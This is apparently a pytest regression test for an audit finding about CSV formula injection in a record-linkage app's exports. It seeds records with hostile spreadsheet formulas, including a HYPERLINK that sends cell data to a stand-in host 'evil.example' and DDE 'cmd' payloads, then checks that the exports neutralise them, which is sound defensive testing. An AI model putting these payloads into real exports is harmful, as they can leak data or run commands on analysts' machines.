"""Finding 9: CSV exports passed formulas through (``=HYPERLINK(…)``, ``+cmd|…``), so a hostile
value in an agency extract ran as a formula in the analyst's spreadsheet. Every export - the
explorer's nodes and links, pattern results, the admin's quarantine download - must neutralise
cells that a spreadsheet would evaluate (OWASP CSV injection rules)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from attacker import Client, Site
from bad_rows import quarantine_health_and_housing

from touchpoint.graph_model.store.db import Graph
from touchpoint.graph_model.store.queries import Query

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Open record")',
    "description": "+cmd|' /C calc'!A0",
    "outcome": "@SUM(1+1)*cmd|' /C calc'!A0",
    "aliases": "-2+3+cmd|' /C calc'!A0",
}
HOSTILE = Query(
    name="tests/hostile_values",
    text="""
MATCH (r:PersonRecord) SET r.full_name = $f.name + ' ' + r.record_id, r.aliases = $f.aliases
WITH count(*) AS _
MATCH (p:Person) SET p.display_name = $f.name + ' ' + p.person_id
WITH count(*) AS _
MATCH (e:Event) SET e.description = $f.description, e.outcome = $f.outcome
""",
    meta={"params": ["f"]},
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def hostile(world: Graph, tmp_path: Path) -> Graph:
    world.write(HOSTILE, f=FORMULAS)
    quarantine_health_and_housing(world, tmp_path / "extracts", formula=FORMULAS["name"])
    return world


def live_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate as a formula."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell[:1] in DANGEROUS]  # fmt: skip


def content(answer, component: str) -> str:
    assert answer.status_code == 200, answer.text[:300]
    return answer.json()["response"][component]["data"]["content"]


def signed_in(site: Site, user: str, purpose: str) -> Client:
    client = site.client()
    assert client.sign_in(user).status_code == 302
    assert client.set_purpose(purpose).status_code == 302
    return client


def test_explorer_csv_exports_neutralise_formulas(site: Site, hostile: Graph) -> None:
    hub = signed_in(site, "hub", "s47_enquiry")
    loaded = hub.callback(
        "explorer-network.data",
        {"explorer-depth.value": 2, "explorer-root.data": "person_alice"},
        ["explorer-depth.value"],
    )
    elements = loaded.json()["response"]["explorer-network"]["data"]["elements"]
    for button in ("explorer-export-nodes", "explorer-export-edges"):
        trigger = f"{button}.n_clicks"
        answer = hub.callback(
            "explorer-download.data",
            {trigger: 1, "explorer-graph.elements": elements, "explorer-root.data": "person_alice"},
            [trigger],
        )
        text = content(answer, "explorer-download")
        assert "HYPERLINK" in text or button.endswith("edges")
        assert live_cells(text) == [], button


def test_pattern_results_csv_neutralises_formulas(site: Site, hostile: Graph) -> None:
    hub = signed_in(site, "hub", "s47_enquiry")
    stored = {"pattern": "no_gp_registration", "params": {}}  # Charlie has no GP record
    answer = hub.callback("pattern-download.data", {"pattern-export.n_clicks": 1,
                          "pattern-store.data": stored})  # fmt: skip
    text = content(answer, "pattern-download")
    assert "HYPERLINK" in text
    assert live_cells(text) == []


def test_the_quarantine_download_neutralises_formulas(site: Site, hostile: Graph) -> None:
    ann = site.client()
    assert ann.sign_in("ann").status_code == 302
    ann.set_purpose("data_quality")
    answer = ann.callback(
        "admin-quarantine-download.data",
        {"admin-quarantine-export.n_clicks": 1, "admin-quarantine-source.value": "__all__"},
    )
    text = content(answer, "admin-quarantine-download")
    assert "HYPERLINK" in text
    assert live_cells(text) == []
